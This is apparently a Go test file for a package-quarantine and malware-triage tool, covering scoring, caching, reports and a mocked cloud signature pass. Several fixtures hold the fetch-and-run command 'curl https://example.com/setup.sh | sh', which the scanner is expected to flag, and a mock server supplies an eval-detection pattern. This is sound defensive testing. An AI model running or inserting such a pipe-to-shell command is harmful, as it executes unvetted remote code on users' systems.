package triage

import (
	"context"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"testing"
	"time"

	"github.com/nomark/sigil/internal/analyzer"
	"github.com/nomark/sigil/internal/cache"
	"github.com/nomark/sigil/internal/intel"
	"github.com/nomark/sigil/internal/pkg/clock"
	"github.com/nomark/sigil/internal/pkg/logger"
	"github.com/nomark/sigil/internal/quarantine"
	"github.com/nomark/sigil/internal/report"
	"github.com/nomark/sigil/internal/scan"
	"github.com/nomark/sigil/internal/scanners"
	"github.com/nomark/sigil/internal/scoring"
)

// newTestTriage builds the full pipeline with no external tools and
// no cloud token, so only the local passes contribute.
func newTestTriage(t *testing.T) (*Triage, *quarantine.Store) {
	t.Helper()
	base := t.TempDir()
	log := logger.Nop()
	clk := clock.NewFake(time.Date(2025, 6, 1, 12, 0, 0, 0, time.UTC))

	store, err := quarantine.NewStore(filepath.Join(base, "quarantine"), filepath.Join(base, "approved"), clk, log)
	if err != nil {
		t.Fatal(err)
	}
	writer, err := report.NewWriter(filepath.Join(base, "reports"), clk)
	if err != nil {
		t.Fatal(err)
	}
	cloud := intel.NewService(
		intel.NewClient(intel.ClientConfig{BaseURL: "http://127.0.0.1:1"}),
		intel.NewTokenStore(filepath.Join(base, "token.json"), time.Hour, clk),
		intel.NewSignatureCache(filepath.Join(base, "signatures.json"), 24*time.Hour, clk),
		log,
	)

	tri := New(
		store,
		scan.NewEngine(log, 0, ""),
		scanners.NewRunnerWith(time.Minute, log),
		analyzer.New(log),
		cloud,
		cache.New(filepath.Join(base, "scan_cache.json"), clk),
		writer,
		2,
		log,
	)
	return tri, store
}

func quarantineTree(t *testing.T, store *quarantine.Store, source string, files map[string]string) string {
	t.Helper()
	id, dir, err := store.Create(source)
	if err != nil {
		t.Fatal(err)
	}
	for rel, content := range files {
		path := filepath.Join(dir, filepath.FromSlash(rel))
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte(content), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	return id
}

func TestScanSingleInstallHookIsMedium(t *testing.T) {
	tri, store := newTestTriage(t)
	id := quarantineTree(t, store, "widget", map[string]string{
		"build.sh": "curl https://example.com/setup.sh | sh\n",
	})

	outcome, err := tri.Scan(context.Background(), id)
	if err != nil {
		t.Fatalf("Scan: %v", err)
	}
	if outcome.Score != 10 {
		t.Errorf("score = %d, want 10: %+v", outcome.Score, outcome.Report.Findings)
	}
	if outcome.Verdict != scoring.VerdictMedium {
		t.Errorf("verdict = %s, want MEDIUM", outcome.Verdict)
	}
	if outcome.ExitCode != 3 {
		t.Errorf("exit code = %d, want 3", outcome.ExitCode)
	}
	if _, err := os.Stat(outcome.ReportPath); err != nil {
		t.Errorf("report not persisted: %v", err)
	}
}

func TestScanEmptyTreeIsClean(t *testing.T) {
	tri, store := newTestTriage(t)
	id := quarantineTree(t, store, "empty", nil)

	outcome, err := tri.Scan(context.Background(), id)
	if err != nil {
		t.Fatalf("Scan: %v", err)
	}
	if outcome.Score != 0 || outcome.Verdict != scoring.VerdictClean || outcome.ExitCode != 0 {
		t.Errorf("outcome = %+v, want clean/0", outcome)
	}
}

func TestScanMarksCloudSkipped(t *testing.T) {
	tri, store := newTestTriage(t)
	id := quarantineTree(t, store, "pkg", map[string]string{"main.py": "print('hi')\n"})

	outcome, err := tri.Scan(context.Background(), id)
	if err != nil {
		t.Fatal(err)
	}
	found := false
	for _, skip := range outcome.Report.Skipped {
		if skip.Subject == "cloud" && skip.Reason == "skipped, unauthenticated" {
			found = true
		}
	}
	if !found {
		t.Errorf("report does not mark the cloud phase skipped: %+v", outcome.Report.Skipped)
	}
	if outcome.Report.CloudStatus != intel.StatusUnauthenticated {
		t.Errorf("cloud status = %q", outcome.Report.CloudStatus)
	}
	// No tools installed in the test runner, so nothing ran.
	if len(outcome.Report.ScannersUsed) != 0 {
		t.Errorf("scanners used = %+v", outcome.Report.ScannersUsed)
	}
}

func TestScanSecondRunHitsCache(t *testing.T) {
	tri, store := newTestTriage(t)
	id := quarantineTree(t, store, "pkg", map[string]string{
		"build.sh": "curl https://example.com/setup.sh | sh\n",
	})

	first, err := tri.Scan(context.Background(), id)
	if err != nil {
		t.Fatal(err)
	}
	second, err := tri.Scan(context.Background(), id)
	if err != nil {
		t.Fatal(err)
	}
	if !second.Cached {
		t.Error("second scan of an unchanged tree did not hit the cache")
	}
	if second.Score != first.Score || second.Verdict != first.Verdict {
		t.Errorf("cached outcome %+v differs from first %+v", second, first)
	}
}

func TestScanUnknownItem(t *testing.T) {
	tri, _ := newTestTriage(t)
	if _, err := tri.Scan(context.Background(), "20250601T120000_missing"); err == nil {
		t.Error("scanning an unknown item succeeded")
	}
}

func TestScanMany(t *testing.T) {
	tri, store := newTestTriage(t)
	clean := quarantineTree(t, store, "clean", map[string]string{"README.md": "hello\n"})
	risky := quarantineTree(t, store, "risky", map[string]string{
		"build.sh": "curl https://example.com/x | sh\n",
	})

	outcomes, errs := tri.ScanMany(context.Background(), []string{clean, risky, "missing_id"})
	if errs[0] != nil || errs[1] != nil {
		t.Fatalf("errs = %v", errs)
	}
	if errs[2] == nil {
		t.Error("missing item did not error")
	}
	if outcomes[0].Verdict != scoring.VerdictClean {
		t.Errorf("clean outcome = %+v", outcomes[0])
	}
	if outcomes[1].Verdict != scoring.VerdictMedium {
		t.Errorf("risky outcome = %+v", outcomes[1])
	}
}

func TestScanPathScansLocalDirectory(t *testing.T) {
	tri, _ := newTestTriage(t)

	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "build.sh"), []byte("curl https://example.com/setup.sh | sh\n"), 0o600); err != nil {
		t.Fatal(err)
	}

	outcome, err := tri.ScanPath(context.Background(), dir)
	if err != nil {
		t.Fatalf("ScanPath: %v", err)
	}
	if outcome.Item != filepath.Base(dir) {
		t.Errorf("item = %q, want %q", outcome.Item, filepath.Base(dir))
	}
	if outcome.Verdict != scoring.VerdictMedium {
		t.Errorf("verdict = %s, want MEDIUM", outcome.Verdict)
	}
	if outcome.ReportPath == "" {
		t.Error("expected a persisted report")
	}
}

func TestScanPathRejectsFiles(t *testing.T) {
	tri, _ := newTestTriage(t)

	file := filepath.Join(t.TempDir(), "single.txt")
	if err := os.WriteFile(file, []byte("x"), 0o600); err != nil {
		t.Fatal(err)
	}

	if _, err := tri.ScanPath(context.Background(), file); err == nil {
		t.Error("ScanPath accepted a regular file")
	}
	if _, err := tri.ScanPath(context.Background(), filepath.Join(t.TempDir(), "missing")); err == nil {
		t.Error("ScanPath accepted a missing path")
	}
}

// Skip notes produced while applying remote signatures must reach the
// report just like the local engine's.
func TestScanCarriesSignaturePassSkips(t *testing.T) {
	base := t.TempDir()
	log := logger.Nop()
	clk := clock.NewFake(time.Date(2025, 6, 1, 12, 0, 0, 0, time.UTC))

	mux := http.NewServeMux()
	mux.HandleFunc("/v1/threat/", func(w http.ResponseWriter, r *http.Request) {
		http.Error(w, `{"message":"unknown hash"}`, http.StatusNotFound)
	})
	mux.HandleFunc("/v1/signatures", func(w http.ResponseWriter, r *http.Request) {
		json.NewEncoder(w).Encode(map[string]interface{}{"signatures": []intel.Signature{
			{ID: "001", Pattern: `eval\s*\(`, Description: "eval call", Severity: "high", Weight: 4},
		}})
	})
	srv := httptest.NewServer(mux)
	t.Cleanup(srv.Close)

	store, err := quarantine.NewStore(filepath.Join(base, "quarantine"), filepath.Join(base, "approved"), clk, log)
	if err != nil {
		t.Fatal(err)
	}
	writer, err := report.NewWriter(filepath.Join(base, "reports"), clk)
	if err != nil {
		t.Fatal(err)
	}
	tokens := intel.NewTokenStore(filepath.Join(base, "token.json"), time.Hour, clk)
	if err := tokens.Save("tok_test"); err != nil {
		t.Fatal(err)
	}
	cloud := intel.NewService(
		intel.NewClient(intel.ClientConfig{BaseURL: srv.URL}),
		tokens,
		intel.NewSignatureCache(filepath.Join(base, "signatures.json"), 24*time.Hour, clk),
		log,
	)
	tri := New(
		store,
		scan.NewEngine(log, 0, ""),
		scanners.NewRunnerWith(time.Minute, log),
		analyzer.New(log),
		cloud,
		cache.New(filepath.Join(base, "scan_cache.json"), clk),
		writer,
		2,
		log,
	)

	id := quarantineTree(t, store, "pkg", map[string]string{"blob.py": "ok\x00binary"})
	outcome, err := tri.Scan(context.Background(), id)
	if err != nil {
		t.Fatal(err)
	}

	// Both the local content pass and the signature pass skip the
	// binary file; the report must carry both notes.
	notes := 0
	for _, skip := range outcome.Report.Skipped {
		if skip.Subject == "blob.py" && skip.Reason == "binary content" {
			notes++
		}
	}
	if notes != 2 {
		t.Errorf("binary skip notes = %d, want 2 (local pass + signature pass): %+v", notes, outcome.Report.Skipped)
	}
	if outcome.Report.CloudStatus != intel.StatusEnriched {
		t.Errorf("cloud status = %q", outcome.Report.CloudStatus)
	}
}
